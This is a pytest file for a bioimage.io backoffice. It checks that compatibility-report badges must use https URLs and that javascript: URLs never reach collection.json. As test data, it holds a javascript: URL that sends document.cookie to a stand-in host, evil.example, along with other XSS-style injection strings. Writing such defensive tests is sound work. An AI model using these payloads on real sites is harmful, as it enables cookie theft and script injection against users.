"""Badges and links of compatibility reports (issue 17): those in reports of our own tool
(bioimageio.core — e.g. written by the `core-previous` script partner, whose job runs
uploaded code) are ignored; a badge's link and icon must be https URLs, so a
`javascript:` URL never reaches collection.json."""

from __future__ import annotations

import json
from typing import Any

import pytest

from backoffice.index.plan import plan_index
from backoffice.records.concept import BadgeSummary
from backoffice.records.scoring import conflate
from backoffice.records.tool_report import ReportBadge, ReportProblem, ToolReport, parse_report
from test_collection_json import _rich_record  # pyright: ignore[reportPrivateUsage]
from test_index import CONFIG, url_of

EVIL = "javascript:fetch('https://evil.example/'+document.cookie)"


def r(status: str, **extra: Any) -> ToolReport:
    return ToolReport.model_validate({"status": status, **extra})


def test_badge_and_links_of_our_own_tool_are_ignored() -> None:
    c = conflate({
        ("bioimageio.core", "0.10.0"): r("passed", links=["evil/resource"], badge={"label": "certified", "url": "https://evil.example"}),
        ("bioimageio.core", "0.11.0"): r("passed", links=["evil/other"], badge={"label": "top", "url": "https://evil.example/2"}),
        ("ilastik", "1.4.1"): r("passed", links=["ilastik/ilastik"], badge={"label": "ilastik", "url": "https://ilastik.org/x"}),
    })
    assert c.links == ["ilastik/ilastik"] and [b.label for b in c.badges] == ["ilastik"]
    core = c.reports["bioimageio.core"]
    assert all(b.badge is None and b.links == [] for b in core.values())
    assert c.reports["ilastik"]["1.4.1"].links == ["ilastik/ilastik"]


@pytest.mark.parametrize("badge", [
    {"label": "x", "url": EVIL},
    {"label": "x", "url": "http://plain.example/x"},
    {"label": "x", "url": "https://ok.example/x", "icon": "data:image/svg+xml;base64,PHN2Zz4="},
    {"label": "x", "url": " JavaScript:alert(1)"},
    {"label": "x", "url": "https://ok.example/x\"><script>"},
])
def test_a_badge_that_is_not_https_is_dropped_and_refused(badge: dict[str, Any]) -> None:
    c = conflate({("ilastik", "1.4.1"): r("passed", badge=badge)})
    assert c.badges == [] and c.reports["ilastik"]["1.4.1"].badge is None
    with pytest.raises(ReportProblem) as err:
        parse_report("ilastik_1.4.1.json", json.dumps({"status": "passed", "badge": badge}).encode())
    assert err.value.field == "badge"


def test_https_badges_pass() -> None:
    badge = {"label": "ilastik", "url": "https://ilastik.org/x", "icon": "https://ilastik.org/i.svg"}
    _, _, report = parse_report("ilastik_1.4.1.json", json.dumps({"status": "passed", "badge": badge}).encode())
    assert conflate({("ilastik", "1.4.1"): report}).badges == [ReportBadge.model_validate(badge)]


def test_no_javascript_url_reaches_collection_json() -> None:
    record = _rich_record()
    for v in record.versions.values():
        v.summary.badges = [BadgeSummary(label="Open in Colab", icon="colab.svg", url=EVIL),
                            BadgeSummary(label="evil icon", icon="javascript:alert(1)", url="https://ok.example")]
        # a brief conflated before the rule, with a badge the rule now drops
        v.compatibility = conflate({("ilastik", "1.4.1"): r("passed")}).model_copy(
            update={"badges": [ReportBadge(label="old", url=EVIL)]})
    data = plan_index([record], {}, CONFIG, url_of).collection.model_dump(mode="json")
    text = json.dumps(data)
    assert "javascript:" not in text.lower()
    (e,) = data["collection"]
    assert e["badges"] == [{"label": "Open in Colab", "icon": "https://store.example/affable-shark/2/files/colab.svg", "url": None},
                           {"label": "evil icon", "icon": None, "url": "https://ok.example"}]
